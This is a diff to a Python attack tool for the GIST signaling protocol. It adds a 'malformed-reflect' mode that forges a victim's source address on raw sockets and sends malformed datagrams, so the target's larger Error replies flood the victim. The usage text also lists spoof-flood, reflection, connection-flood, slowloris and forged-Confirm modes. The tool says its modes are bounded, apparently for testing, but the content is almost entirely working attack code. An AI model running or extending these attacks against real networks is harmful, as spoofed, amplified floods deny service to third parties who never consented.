@@ -8,6 +8,7 @@ namespaces. Every mode is bounded in count and time and prints one summary line.
 
   gist_attack.py spoof-flood TARGET COUNT SPOOF_NET     Queries from COUNT forged sources (S=1, NLI = source)
   gist_attack.py reflect TARGET COUNT VICTIM SPOOF_SRC  Queries whose NLI names VICTIM (S=1 from us, S=0 from SPOOF_SRC)
+  gist_attack.py malformed-reflect TARGET COUNT VICTIM  malformed GIST from VICTIM's (forged) address: each would earn an Error
   gist_attack.py listen ADDR SECONDS                    count GIST datagrams arriving at ADDR:270
   gist_attack.py conn-flood TARGET PORT SRC_LIST SECS   keep reopening TCP connections from each source address
   gist_attack.py slowloris TARGET PORT SECS             MAs that never finish a message / never Confirm / announce a huge one
@@ -108,6 +109,19 @@ def reflect(target, count, victim, spoof_src):
         if i % 200 == 199:
             time.sleep(0.01)
     print("reflect: %d S=1 and %d S=0 Queries naming %s" % (count, count, victim))
+
+
+def malformed_reflect(target, count, victim):
+    """A 16-byte datagram whose common header claims more than it carries (an Error of 64 bytes, 4 times
+    its size answers it), from the victim's address, COUNT times."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    bad = struct.pack("!I", MAGIC) + struct.pack("!BBHHBB", 1, 1, 9, NSLPID, DATA, S_FLAG)
+    t0 = time.time()
+    for i in range(int(count)):
+        raw.sendto(ipv4_udp(victim, target, bad), (target, 0))
+        if i % 500 == 499:
+            time.sleep(0.01)
+    print("malformed-reflect: %d malformed datagrams from %s in %.1f s" % (int(count), victim, time.time() - t0))
 
 
 def listen(addr, secs):
@@ -273,7 +287,7 @@ def rebind(target, port, peer_hex):
 
 
 if __name__ == "__main__":
-    modes = {"spoof-flood": spoof_flood, "reflect": reflect, "listen": listen, "conn-flood": conn_flood,
+    modes = {"spoof-flood": spoof_flood, "reflect": reflect, "malformed-reflect": malformed_reflect, "listen": listen, "conn-flood": conn_flood,
              "slowloris": slowloris, "confirm-forge": confirm_forge, "rebind": rebind}
     if len(sys.argv) < 2 or sys.argv[1] not in modes:
         sys.exit(__doc__)
